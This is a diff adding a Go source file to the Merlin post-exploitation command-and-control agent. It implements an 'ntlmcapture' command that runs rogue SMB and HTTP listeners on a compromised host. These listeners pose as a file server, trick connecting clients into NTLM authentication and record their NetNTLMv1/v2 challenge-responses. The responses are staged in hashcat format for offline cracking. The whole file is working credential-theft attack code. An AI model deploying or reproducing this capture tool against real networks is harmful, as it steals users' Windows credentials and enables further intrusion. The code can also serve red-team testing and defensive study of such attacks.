@@ -0,0 +1,392 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"bytes"
+	"crypto/rand"
+	"encoding/binary"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cleanup"
+	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/staging"
+)
+
+const (
+	// defaultCaptureListenerSeconds is how long the capture listeners run when a duration is not provided
+	defaultCaptureListenerSeconds = 600
+	// smb2Negotiate is the SMB2 NEGOTIATE command
+	smb2Negotiate = 0x0
+	// smb2SessionSetup is the SMB2 SESSION_SETUP command
+	smb2SessionSetup = 0x1
+	// statusMoreProcessing is STATUS_MORE_PROCESSING_REQUIRED
+	statusMoreProcessing = 0xc0000016
+	// statusLogonFailure is STATUS_LOGON_FAILURE
+	statusLogonFailure = 0xc000006d
+)
+
+// spnegoNTLM is the DER encoded NTLMSSP mechanism OID 1.3.6.1.4.1.311.2.2.10
+var spnegoNTLM = []byte{0x06, 0x0a, 0x2b, 0x06, 0x01, 0x04, 0x01, 0x82, 0x37, 0x02, 0x02, 0x0a}
+
+// ntlmCapture is the running SMB and HTTP capture listener, only one runs at a time
+var ntlmCapture struct {
+	sync.Mutex
+	running   bool
+	started   time.Time
+	listeners []string
+	closers   []func() error
+	hashes    []NTLMHash
+	stop      chan struct{}
+	remove    func()
+	challenge [8]byte
+	staged    string
+}
+
+// NTLMCapture listens for SMB and HTTP connections on the host, requests NTLM authentication, and records the
+// NetNTLMv1/v2 challenge-responses. When the listeners stop the hashes are written to the staging area in hashcat
+// format and are also listed by the responder hashes command
+// ntlmcapture start <IP address> [smb,http] [seconds]
+// ntlmcapture status
+// ntlmcapture stop
+func NTLMCapture(cmd jobs.Command) (results jobs.Results, structured Structured) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering NTLMCapture() with %+v", cmd))
+	}
+	if len(cmd.Args) < 1 {
+		results.Stderr = "not enough arguments provided to the ntlmcapture command"
+		return
+	}
+
+	switch strings.ToLower(cmd.Args[0]) {
+	case "start":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "not enough arguments provided to the ntlmcapture start command"
+			return
+		}
+		results.Stdout, results.Stderr = startNTLMCapture(cmd.Args[1:])
+	case "status":
+		ntlmCapture.Lock()
+		state := "stopped"
+		if ntlmCapture.running {
+			state = fmt.Sprintf("listening on %s since %s", strings.Join(ntlmCapture.listeners, ", "), ntlmCapture.started.Format(time.RFC3339))
+		}
+		results.Stdout = fmt.Sprintf("NTLM capture is %s with %d hashes", state, len(ntlmCapture.hashes))
+		if ntlmCapture.staged != "" {
+			results.Stdout += fmt.Sprintf(", the last capture was staged as %s", ntlmCapture.staged)
+		}
+		structured = newStructured("ntlm", append([]NTLMHash(nil), ntlmCapture.hashes...))
+		ntlmCapture.Unlock()
+	case "stop":
+		id, err := stopNTLMCapture()
+		if err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = "Stopped the NTLM capture listeners"
+		if id != "" {
+			results.Stdout += fmt.Sprintf(", the hashes were staged as %s", id)
+		}
+	default:
+		results.Stderr = fmt.Sprintf("unknown ntlmcapture command: %s", cmd.Args[0])
+	}
+	return
+}
+
+// startNTLMCapture parses the start arguments and starts the SMB and HTTP listeners
+func startNTLMCapture(args []string) (stdout, stderr string) {
+	ntlmCapture.Lock()
+	defer ntlmCapture.Unlock()
+	if ntlmCapture.running {
+		return "", "the NTLM capture listeners are already running"
+	}
+	ip := net.ParseIP(args[0])
+	if ip == nil {
+		return "", fmt.Sprintf("%s is not an IP address", args[0])
+	}
+	protocols := []string{"smb", "http"}
+	if len(args) > 1 {
+		protocols = strings.Split(strings.ToLower(args[1]), ",")
+	}
+	seconds := defaultCaptureListenerSeconds
+	if len(args) > 2 {
+		var err error
+		if seconds, err = strconv.Atoi(args[2]); err != nil || seconds < 1 {
+			return "", fmt.Sprintf("%s is not a valid number of seconds", args[2])
+		}
+	}
+	if _, err := rand.Read(ntlmCapture.challenge[:]); err != nil {
+		return "", fmt.Sprintf("there was an error generating the NTLM server challenge: %s", err)
+	}
+	ntlmCapture.listeners, ntlmCapture.closers, ntlmCapture.hashes, ntlmCapture.staged = nil, nil, nil, ""
+
+	for _, protocol := range protocols {
+		switch protocol {
+		case "smb":
+			ln, err := net.Listen("tcp", net.JoinHostPort(ip.String(), "445"))
+			if err != nil {
+				stderr += fmt.Sprintf("there was an error listening for SMB: %s\n", err)
+				continue
+			}
+			ntlmCapture.closers = append(ntlmCapture.closers, ln.Close)
+			ntlmCapture.listeners = append(ntlmCapture.listeners, "smb://"+ln.Addr().String())
+			go serveSMBCapture(ln, ntlmCapture.challenge)
+		case "http":
+			ln, err := net.Listen("tcp", net.JoinHostPort(ip.String(), "80"))
+			if err != nil {
+				stderr += fmt.Sprintf("there was an error listening for HTTP: %s\n", err)
+				continue
+			}
+			server := &http.Server{
+				Handler:           ntlmHTTPHandler(ntlmCapture.challenge, "WORKGROUP", "FILESERVER", ntlmCaptured),
+				ReadHeaderTimeout: 10 * time.Second,
+			}
+			ntlmCapture.closers = append(ntlmCapture.closers, server.Close)
+			ntlmCapture.listeners = append(ntlmCapture.listeners, "http://"+ln.Addr().String())
+			go func() { _ = server.Serve(ln) }()
+		default:
+			stderr += fmt.Sprintf("%s is not a supported capture protocol, use smb or http\n", protocol)
+		}
+	}
+	if len(ntlmCapture.closers) == 0 {
+		return "", stderr
+	}
+	stop := make(chan struct{})
+	ntlmCapture.running, ntlmCapture.started, ntlmCapture.stop = true, time.Now(), stop
+	ntlmCapture.remove = cleanup.Add(cleanup.LISTENER, "NTLM capture on "+strings.Join(ntlmCapture.listeners, ", "), func() error {
+		_, err := stopNTLMCapture()
+		return err
+	})
+	go func() {
+		select {
+		case <-time.After(time.Duration(seconds) * time.Second):
+			_, _ = stopNTLMCapture()
+		case <-stop:
+		}
+	}()
+	return fmt.Sprintf("Capturing NTLM authentication on %s for %d seconds", strings.Join(ntlmCapture.listeners, ", "), seconds), stderr
+}
+
+// stopNTLMCapture closes the listeners and stages the captured hashes, one per line in hashcat format
+func stopNTLMCapture() (string, error) {
+	ntlmCapture.Lock()
+	defer ntlmCapture.Unlock()
+	if !ntlmCapture.running {
+		return "", fmt.Errorf("the NTLM capture listeners are not running")
+	}
+	for _, closer := range ntlmCapture.closers {
+		_ = closer()
+	}
+	close(ntlmCapture.stop)
+	ntlmCapture.remove()
+	ntlmCapture.running = false
+	if len(ntlmCapture.hashes) == 0 {
+		return "", nil
+	}
+	var lines []string
+	for _, hash := range ntlmCapture.hashes {
+		lines = append(lines, hash.Hash)
+	}
+	id, err := staging.Add(fmt.Sprintf("ntlm-%s.txt", ntlmCapture.started.UTC().Format("20060102T150405Z")), []byte(strings.Join(lines, "\n")+"\n"))
+	ntlmCapture.staged = id
+	return id, err
+}
+
+// ntlmCaptured records a challenge-response captured by the SMB or HTTP listener
+func ntlmCaptured(hash NTLMHash) {
+	if !recordHash(hash) {
+		return
+	}
+	ntlmCapture.Lock()
+	ntlmCapture.hashes = append(ntlmCapture.hashes, hash)
+	ntlmCapture.Unlock()
+	if cli.Enabled {
+		cli.Message(cli.SUCCESS, fmt.Sprintf("Captured %s hash for %s\\%s from %s over %s", hash.Version, hash.Domain, hash.User, hash.Source, hash.Protocol))
+	}
+}
+
+// serveSMBCapture accepts SMB connections until the listener is closed
+func serveSMBCapture(ln net.Listener, challenge [8]byte) {
+	for {
+		conn, err := ln.Accept()
+		if err != nil {
+			return
+		}
+		go handleSMBCapture(conn, challenge)
+	}
+}
+
+// handleSMBCapture negotiates SMB2 and runs the NTLM session setup until the client sends its authenticate message,
+// which is refused with STATUS_LOGON_FAILURE
+func handleSMBCapture(conn net.Conn, challenge [8]byte) {
+	defer conn.Close()
+	source, _, _ := net.SplitHostPort(conn.RemoteAddr().String())
+	for i := 0; i < 6; i++ {
+		_ = conn.SetDeadline(time.Now().Add(30 * time.Second))
+		packet, err := readNetBIOS(conn)
+		if err != nil {
+			return
+		}
+		// An SMB1 negotiate that offers SMB2 is answered with the SMB2 wildcard dialect so the client upgrades
+		if len(packet) >= 4 && bytes.Equal(packet[:4], []byte("\xffSMB")) {
+			if err = writeNetBIOS(conn, smb2NegotiateResponse(0, 0x02ff)); err != nil {
+				return
+			}
+			continue
+		}
+		if len(packet) < 64 || !bytes.Equal(packet[:4], []byte("\xfeSMB")) {
+			return
+		}
+		command := binary.LittleEndian.Uint16(packet[12:])
+		messageID := binary.LittleEndian.Uint64(packet[24:])
+		switch command {
+		case smb2Negotiate:
+			err = writeNetBIOS(conn, smb2NegotiateResponse(messageID, 0x0210))
+		case smb2SessionSetup:
+			if len(packet) < 88 {
+				return
+			}
+			offset := int(binary.LittleEndian.Uint16(packet[76:]))
+			length := int(binary.LittleEndian.Uint16(packet[78:]))
+			if offset+length > len(packet) {
+				return
+			}
+			blob := packet[offset : offset+length]
+			start := bytes.Index(blob, ntlmSignature)
+			if start < 0 {
+				return
+			}
+			msg := blob[start:]
+			switch ntlmMessageType(msg) {
+			case 1:
+				err = writeNetBIOS(conn, smb2SessionSetupResponse(messageID, statusMoreProcessing, spnegoChallenge(ntlmChallenge(challenge, "WORKGROUP", "FILESERVER"))))
+			case 3:
+				if hash, e := ntlmResponse(msg, challenge); e == nil {
+					hash.Time, hash.Source, hash.Protocol = time.Now().UTC(), source, "smb"
+					ntlmCaptured(hash)
+				}
+				_ = writeNetBIOS(conn, smb2SessionSetupResponse(messageID, statusLogonFailure, nil))
+				return
+			default:
+				return
+			}
+		default:
+			return
+		}
+		if err != nil {
+			return
+		}
+	}
+}
+
+// readNetBIOS reads one NetBIOS session service message
+func readNetBIOS(conn net.Conn) ([]byte, error) {
+	header := make([]byte, 4)
+	if _, err := io.ReadFull(conn, header); err != nil {
+		return nil, err
+	}
+	length := int(header[1])<<16 | int(header[2])<<8 | int(header[3])
+	packet := make([]byte, length)
+	_, err := io.ReadFull(conn, packet)
+	return packet, err
+}
+
+// writeNetBIOS writes the packet as a NetBIOS session service message
+func writeNetBIOS(conn net.Conn, packet []byte) error {
+	length := len(packet)
+	_, err := conn.Write(append([]byte{0, byte(length >> 16), byte(length >> 8), byte(length)}, packet...))
+	return err
+}
+
+// smb2Header returns a response header for the command
+func smb2Header(command uint16, status uint32, messageID, sessionID uint64) []byte {
+	h := make([]byte, 64)
+	copy(h, "\xfeSMB")
+	binary.LittleEndian.PutUint16(h[4:], 64)
+	binary.LittleEndian.PutUint32(h[8:], status)
+	binary.LittleEndian.PutUint16(h[12:], command)
+	binary.LittleEndian.PutUint16(h[14:], 1)
+	// SMB2_FLAGS_SERVER_TO_REDIR
+	binary.LittleEndian.PutUint32(h[16:], 1)
+	binary.LittleEndian.PutUint64(h[24:], messageID)
+	binary.LittleEndian.PutUint64(h[40:], sessionID)
+	return h
+}
+
+// smb2NegotiateResponse selects the dialect and offers SPNEGO with NTLMSSP as the only mechanism
+func smb2NegotiateResponse(messageID uint64, dialect uint16) []byte {
+	// NegTokenInit with mechTypes [NTLMSSP]
+	mechTypes := der(0x30, spnegoNTLM)
+	token := der(0x60, append([]byte{0x06, 0x06, 0x2b, 0x06, 0x01, 0x05, 0x05, 0x02}, der(0xa0, der(0x30, der(0xa0, mechTypes)))...))
+
+	body := make([]byte, 64)
+	binary.LittleEndian.PutUint16(body[0:], 65)
+	// SMB2_NEGOTIATE_SIGNING_ENABLED
+	binary.LittleEndian.PutUint16(body[2:], 1)
+	binary.LittleEndian.PutUint16(body[4:], dialect)
+	_, _ = rand.Read(body[8:24])
+	binary.LittleEndian.PutUint32(body[28:], 0x100000)
+	binary.LittleEndian.PutUint32(body[32:], 0x100000)
+	binary.LittleEndian.PutUint32(body[36:], 0x100000)
+	binary.LittleEndian.PutUint64(body[40:], uint64(time.Now().Unix()+11644473600)*10000000)
+	binary.LittleEndian.PutUint16(body[56:], 128)
+	binary.LittleEndian.PutUint16(body[58:], uint16(len(token)))
+	return append(append(smb2Header(smb2Negotiate, 0, messageID, 0), body...), token...)
+}
+
+// smb2SessionSetupResponse returns the session setup status with the security buffer
+func smb2SessionSetupResponse(messageID uint64, status uint32, security []byte) []byte {
+	body := make([]byte, 8)
+	binary.LittleEndian.PutUint16(body[0:], 9)
+	binary.LittleEndian.PutUint16(body[4:], 72)
+	binary.LittleEndian.PutUint16(body[6:], uint16(len(security)))
+	return append(append(smb2Header(smb2SessionSetup, status, messageID, 0x0000040000000001), body...), security...)
+}
+
+// spnegoChallenge wraps an NTLM challenge message in a SPNEGO NegTokenResp with an accept-incomplete state
+func spnegoChallenge(challenge []byte) []byte {
+	state := der(0xa0, []byte{0x0a, 0x01, 0x01})
+	mech := der(0xa1, spnegoNTLM)
+	token := der(0xa2, der(0x04, challenge))
+	return der(0xa1, der(0x30, append(append(state, mech...), token...)))
+}
+
+// der encodes a DER tag, length, and value
+func der(tag byte, value []byte) []byte {
+	length := len(value)
+	switch {
+	case length < 0x80:
+		return append([]byte{tag, byte(length)}, value...)
+	case length < 0x100:
+		return append([]byte{tag, 0x81, byte(length)}, value...)
+	default:
+		return append([]byte{tag, 0x82, byte(length >> 8), byte(length)}, value...)
+	}
+}